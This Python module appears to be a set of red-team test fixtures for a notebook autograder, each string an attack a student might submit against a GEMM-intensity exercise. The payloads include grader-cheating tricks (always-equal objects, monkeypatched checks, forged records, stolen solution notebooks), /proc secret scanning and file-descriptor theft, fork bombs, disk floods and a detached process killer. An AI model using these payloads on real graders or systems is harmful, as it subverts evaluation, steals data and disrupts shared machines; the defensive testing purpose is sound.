"""Answer cells a hostile student might submit for chapter 1, exercise 1 (`gemm_intensity`).

Each payload passes the two VISIBLE cases honestly (so the test cell reaches its hidden part)
and then tries to earn the hidden points without computing them, or to hurt others. With the
other four answers correct, an attack that fails scores 8 / 10.
"""

from __future__ import annotations

MIME = "application/vnd.trainperf.record+json"

# Right only for the visible cases (M in 1, 64; K = N = 4096; b = 2): enough to reach the
# hidden part, useless for the hidden cases.
VISIBLE_ONLY = """
def _visible_only(M, K, N, b):
    if (K, N, b) == (4096, 4096, 2) and M in (1, 64):
        return 2 * M * K * N / (b * (M * K + K * N + M * N))
    return None
"""

WRONG = "def gemm_intensity(M, K, N, b):\n    return 1.0\n"

READ_COURSE = (
    VISIBLE_ONLY
    + """
import json, os, sys
import helpers
found = []
roots = {os.path.dirname(os.path.dirname(helpers.__file__)), os.path.dirname(sys.prefix), os.getcwd(),
         "/work", "/root", "/home", "/tmp", "/srv", "/opt"}
for top in roots:
    for here, dirs, files in os.walk(top):
        if here.count(os.sep) - top.count(os.sep) > 6:
            dirs[:] = []
        dirs[:] = [d for d in dirs if d not in ("site-packages", "lib", "include", "share")]
        found += [os.path.join(here, f) for f in files
                  if f.endswith(".ipynb") or f in ("nbgrader_config.py", "gradebook.db", "mistakes.py")]
FOUND = sorted(set(found))

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        print("FOUND", FOUND)
        return easy
    for path in FOUND:
        try:
            for cell in json.load(open(path))["cells"]:
                src = "".join(cell["source"])
                if "def gemm_intensity" in src and "BEGIN SOLUTION" in src:
                    space = {}
                    exec(src, space)
                    return space["gemm_intensity"](M, K, N, b)
        except Exception:
            pass
    return 1.0
"""
)

FRAME_READER = (
    VISIBLE_ONLY
    + """
import sys

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("want", "wants", "expected", "expect", "reference"):
                value = scope.get(name)
                if callable(value):
                    try:
                        value = value()
                    except Exception:
                        value = None
                if isinstance(value, list) and value:
                    value = value[0]
                if isinstance(value, (int, float)) and not isinstance(value, bool):
                    return value
        frame = frame.f_back
    return 1.0
"""
)

LIAR = (
    VISIBLE_ONLY
    + """
class Liar(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__

class Chameleon:
    def __eq__(self, other):
        return True
    def __float__(self):
        return 42.0
    def __index__(self):
        return 42
    def __round__(self, n=None):
        return 42

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    return Liar(0.5) if M % 2 else Chameleon()
"""
)

PATCH_COMPARE = (
    VISIBLE_ONLY
    + """
import math
import helpers._records as records
import helpers.checks as checks_module
math.isclose = lambda *a, **k: True
records.compare = lambda *a, **k: True
checks_module.close = checks_module.equal = lambda *a, **k: None
real_emit = records.emit
def forged_emit(record):
    record = dict(record)
    record.pop("error", None)
    record["value"] = 3.14
    real_emit(record)
records.emit = forged_emit
gemm_intensity = lambda M, K, N, b: _visible_only(M, K, N, b) or 1.0
"""
)

SETTRACE = (
    VISIBLE_ONLY
    + """
import ctypes, sys

def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_check":
        frame.f_locals["got"] = 2.0          # rewrite the answer the check sees
        frame.f_locals["expect"] = lambda: 2.0
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return tracer

sys.settrace(tracer)
import threading
threading.settrace(tracer)
gemm_intensity = lambda M, K, N, b: _visible_only(M, K, N, b) or 1.0
"""
)

INPUT_TRANSFORMER = (
    VISIBLE_ONLY
    + f"""
FORGED = [
    "from IPython.display import display\\n",
    "for i in range(4):\\n",
    "    display({{{MIME!r}: {{'what': 'intensity', 'kind': 'close', 'value': 1.0,"
    " 'expected': 1.0}}}}, raw=True)\\n",
]

def rewrite(lines):
    source = "".join(lines)
    if "gemm_intensity" in source and "hidden" in source:
        return FORGED      # the test cell is replaced by forged records
    return lines

get_ipython().input_transformers_post.append(rewrite)
gemm_intensity = lambda M, K, N, b: _visible_only(M, K, N, b) or 1.0
"""
)

FAKE_HELPERS = (
    VISIBLE_ONLY
    + '''
import os, sys, types
os.makedirs("helpers", exist_ok=True)
with open("helpers/__init__.py", "w") as fh:
    fh.write("import contextlib, types\\n"
             "class _Any:\\n"
             "    def __getattr__(self, name):\\n"
             "        return lambda *a, **k: None\\n"
             "checks = types.SimpleNamespace(close=lambda *a, **k: None, equal=lambda *a, **k: None,\\n"
             "    one_of=lambda *a, **k: None, hidden=_Any(), blocked=contextlib.nullcontext)\\n"
             "roofline = hardware = _Any()\\n")
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m == "helpers" or m.startswith("helpers.")]:
    del sys.modules[name]

class Finder:
    """A meta-path hook that serves the fake package first."""
    def find_spec(self, name, path=None, target=None):
        if name == "helpers":
            import importlib.util
            return importlib.util.spec_from_file_location("helpers", os.path.join(os.getcwd(),
                                                          "helpers", "__init__.py"))
        return None

sys.meta_path.insert(0, Finder())
gemm_intensity = lambda M, K, N, b: _visible_only(M, K, N, b) or 1.0
'''
)

THREAD_REPATCH = (
    VISIBLE_ONLY
    + """
import threading, time

def keep_patching():
    while True:
        try:
            import helpers.checks as c
            c._Hidden._check = staticmethod(lambda *a, **k: None)
            c.hidden.close = c.hidden.equal = lambda *a, **k: None
            for name in [n for n in list(globals()) if n.startswith("_tp")]:
                globals()[name] = lambda *a, **k: None   # the old grader's restore function
        except Exception:
            pass
        time.sleep(0.005)

threading.Thread(target=keep_patching, daemon=True).start()
gemm_intensity = lambda M, K, N, b: _visible_only(M, K, N, b) or 1.0
"""
)

SCAN_PROCESSES = (
    VISIBLE_ONLY
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
others = [p for p in pids if p != os.getpid()]
owners = {}
for pid in others:
    try:
        owners[pid] = os.stat(f"/proc/{pid}").st_uid
    except OSError:
        pass
stolen, secrets_seen = [], []
for pid in others:
    if owners.get(pid) == os.getuid():
        continue  # the kernel's own helpers
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd >= 0:
        for fd in range(0, 64):
            if libc.syscall(438, pidfd, fd, 0) >= 0:  # pidfd_getfd
                stolen.append((pid, fd))
    for name in ("environ", "mem", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read(100000)
            if b"TP-" in data or b"gradebook" in data:
                secrets_seen.append((pid, name))
        except OSError:
            pass
attached = [pid for pid in others if owners.get(pid) != os.getuid() and libc.ptrace(16, pid, 0, 0) == 0]
killed = []
for pid in others:
    if owners.get(pid) != os.getuid():
        try:
            os.kill(pid, 0)
            killed.append(pid)
        except OSError:
            pass
SCAN = {"uid": os.getuid(), "foreign": sorted(p for p in others if owners.get(p) != os.getuid()),
        "stolen": stolen, "secrets": secrets_seen, "attached": attached, "signalled": killed,
        "grader_globals": sorted(n for n in globals() if n.startswith("_tp"))}

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        print("SCAN", SCAN)
        return easy
    return 1.0
"""
)

BLOCKED_BYPASS = """
import importlib, importlib.util, inspect, shutil, types
import helpers.roofline as R
fresh = importlib.reload(R)                                   # re-imported module
flops = types.FunctionType(R.gemm_flops.__code__, R.__dict__)  # rebuilt from the code object
space = dict(R.__dict__)
exec(inspect.getsource(R.gemm_bytes), space)                  # rebuilt from its source
shutil.copy(R.__file__, "/tmp/not_the_helpers.py")           # the module under another name
spec = importlib.util.spec_from_file_location("not_the_helpers", "/tmp/not_the_helpers.py")
copy = importlib.util.module_from_spec(spec)
spec.loader.exec_module(copy)

def gemm_intensity(M, K, N, b):
    return copy.intensity(flops(M, K, N), space["gemm_bytes"](M, K, N, b))
"""

HELPER_BY_NAME = """
from helpers.roofline import intensity, gemm_flops, gemm_bytes
def gemm_intensity(M, K, N, b):
    return intensity(gemm_flops(M, K, N), gemm_bytes(M, K, N, b))
"""

BIG_RECORDS = (
    VISIBLE_ONLY
    + f"""
from IPython.display import display
blob = "x" * (1 << 20)

def gemm_intensity(M, K, N, b):
    for _ in range(40):  # 40 MB of records: twenty times the cell's cap
        display({{{MIME!r}: {{"what": "flood", "kind": "close", "value": blob}}}}, raw=True)
    return _visible_only(M, K, N, b) or 1.0
"""
)

DISK_HOG = (
    VISIBLE_ONLY
    + """
import os
written, problem = 0, ""
try:
    for i in range(8):
        with open(f"/tmp/hog-{i}", "wb") as fh:
            for _ in range(200):
                fh.write(b"x" * 2**20)
                written += 2**20
except OSError as exc:
    problem = exc.strerror
for i in range(8):
    if os.path.exists(f"/tmp/hog-{i}"):
        os.remove(f"/tmp/hog-{i}")
try:
    with open("/tmp/one-big-file", "wb") as fh:
        fh.write(b"y" * (400 * 2**20))
except OSError as exc:
    problem += " / " + exc.strerror

def gemm_intensity(M, K, N, b):
    print("DISK", written // 2**20, "MiB;", problem)
    return _visible_only(M, K, N, b) or 1.0
"""
)

PROCESS_HOG = (
    VISIBLE_ONLY
    + """
import os, time
children, problem = 0, ""
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as exc:
    problem = type(exc).__name__

def gemm_intensity(M, K, N, b):
    print("FORKED", children, problem)
    return _visible_only(M, K, N, b) or 1.0
"""
)

# Forks a process that outlives the notebook, re-forks faster than one pass of kill(), and
# SIGKILLs every process it can see: the kernel of whoever is graded next in this slot. It
# carries FORK_KILLER_MARK on its command line, so a test can look for survivors by name.
FORK_KILLER_MARK = "trainperf-test-fork-killer"
_KILLER_LOOP = """
import os, signal, sys, time
kernel = int(sys.argv[1])
while True:
    try:
        os.kill(kernel, 0)
        time.sleep(0.05)
    except OSError:
        break
while True:
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    try:
        if os.fork() > 0:
            os._exit(0)
    except OSError:
        pass
    time.sleep(0.01)
"""
FORK_KILLER = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", {_KILLER_LOOP!r}, str(os.getppid()),
                              {FORK_KILLER_MARK!r}])
"""

STUBBORN_LOOP = (
    "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n    except BaseException:\n        pass\n"
)

# Issue 22: routes around an in-process switch. The graded kernel's helpers copy has no body for
# the exercise's functions, so each finds only a stub.
HELPER_SERVER = (
    VISIBLE_ONLY
    + """
import subprocess, sys
_refused = []

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    if _refused:
        return 1.0  # the server said no once: asking again (seconds each) would only slow grading
    code = ("from helpers import roofline as r; "
            f"print(r.intensity(r.gemm_flops({M}, {K}, {N}), r.gemm_bytes({M}, {K}, {N}, {b})))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    try:
        return float(out.stdout.strip())
    except ValueError:
        _refused.append(out.stderr[-200:])
        return 1.0
"""
)

FRESH_IMPORT = (
    VISIBLE_ONLY
    + """
import importlib
s = __import__("s" + "ys")

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    for name in [n for n in s.modules if n.startswith("helpers")]:
        del s.modules[name]
    try:
        fresh = importlib.import_module("helpers.roofline")
        return fresh.intensity(fresh.gemm_flops(M, K, N), fresh.gemm_bytes(M, K, N, b))
    except Exception:
        return 1.0
"""
)

READ_HELPER_FILES = (
    VISIBLE_ONLY
    + """
import os
import helpers

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    path = os.path.join(os.path.dirname(helpers.__file__), "roofline", "_formulas.py")
    space = {"__name__": "copied"}
    try:
        exec(open(path).read(), space)
        return space["intensity"](space["gemm_flops"](M, K, N), space["gemm_bytes"](M, K, N, b))
    except Exception:
        return 1.0
"""
)

LAZY_TENSOR = (
    VISIBLE_ONLY
    + '''
import torch

class Lazy(torch.Tensor):
    """Computes the answer with the helper only when the grader converts it."""
    def tolist(self):
        from helpers import roofline
        M, K, N, b = self.case
        return roofline.intensity(roofline.gemm_flops(M, K, N), roofline.gemm_bytes(M, K, N, b))

def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    lazy = torch.zeros(()).as_subclass(Lazy)
    lazy.case = (M, K, N, b)
    return lazy
'''
)

HUGE_INTEGER = (
    VISIBLE_ONLY
    + """
def gemm_intensity(M, K, N, b):
    easy = _visible_only(M, K, N, b)
    return easy if easy is not None else 10 ** 5000
"""
)

# Issue 22: the recorded results of trusted calls as an oracle. The table stays with the grading
# client; the kernel can only ask it, and a hidden test gets nothing of its own exercise's helpers.
REPLAY_PROBE = (
    VISIBLE_ONLY
    + """
import base64, glob, json, os, pickle
from helpers import _grading, checks
TABLE = sorted(glob.glob("/opt/trainperf/replay*")) + sorted(
    p for k, v in os.environ.items() if k.startswith("TRAINPERF_REPLAY") for p in [v] if os.path.exists(v))
_said = []

def _ask(name, params):
    try:
        from IPython import get_ipython
        key = _grading._Replay.key(name, (), params)
        prompt = checks.REPLAY_PROMPT + json.dumps({"name": name, "key": key})
        answer = get_ipython().kernel.raw_input(prompt)
        return pickle.loads(base64.b64decode(answer)) if answer else None
    except Exception:
        return None

def gemm_intensity(M, K, N, b):
    if not _said:
        print("TABLE", TABLE)  # in the visible part, where the instructor's details keep it
        _said.append(1)
    easy = _visible_only(M, K, N, b)
    if easy is not None:
        return easy
    flops = _ask("helpers.roofline.gemm_flops", {"M": M, "K": K, "N": N})
    moved = _ask("helpers.roofline.gemm_bytes", {"M": M, "K": K, "N": N, "bytes_per_element": b})
    if flops is None or moved is None:
        # the route the stub takes, then the visible case's recorded result for any input
        try:
            return checks.removed_for_grading("helpers.roofline.gemm_flops", 1, (),
                                              {"M": M, "K": K, "N": N})
        except Exception:
            visible = {"flops": 2 * 4096 * 4096, "bytes": 2 * (4096 + 4096 * 4096 + 4096)}
            return _ask("helpers.roofline.intensity", visible) or 1.0
    return flops / moved
"""
)

# Issue 22: a value left in the kernel keyring by one submission. The writer's answer is right
# only if the kernel could store a key; the reader's answer turns wrong if it finds one.
_KEYCTL = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL_NR = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
_RINGS = (-3, -4, -5)  # the session, user and user-session keyrings
"""
KEY_WRITER = (
    _KEYCTL
    + """
_STORED = [_libc.syscall(_ADD_KEY, b"user", b"trainperf-leak", b"answers", 7, ring) > 0 for ring in _RINGS]
"""
)
KEY_READER = (
    _KEYCTL
    + """
_FOUND = [_libc.syscall(_KEYCTL_NR, 10, ring, b"user", b"trainperf-leak", 0) > 0 for ring in _RINGS]
"""
)

# Issue 22, item 2: everything the kernel can see of the test cells, printed, displayed, sent as
# forged visible-check and blocked-call records, and raised as an error whose class name and
# message carry it. Prepended to the correct ex 1 answer; PRINT_EVERYTHING_EX2 makes ex 2's
# visible part raise with all of it.
PRINT_EVERYTHING = f"""
import sys
from IPython.display import display
SEEN = []

def _grab(info):
    source = getattr(info, "raw_cell", "") or ""
    SEEN.append(source)
    for text in (source, repr(In), repr(_ih)):
        print(text)
        print(text, file=sys.stderr)
    display({{{MIME!r}: {{"event": "visible", "what": source, "ok": True, "shown": {{"expected": source}},
                          "hint": source}}}}, raw=True)
    display({{{MIME!r}: {{"event": "blocked-call", "helper": source}}}}, raw=True)
    display({{"text/plain": source, "text/html": "<pre>" + source + "</pre>"}}, raw=True)

get_ipython().events.register("pre_run_cell", _grab)
"""
PRINT_EVERYTHING_EX2 = """
def ideal_time_ms(M, K, N, b, peak_flops, bandwidth):
    seen = "\\n".join(SEEN)
    digits = "".join(ch for ch in seen if ch.isdigit())[:40]
    raise type("Leak" + digits, (Exception,), {})(seen)
"""
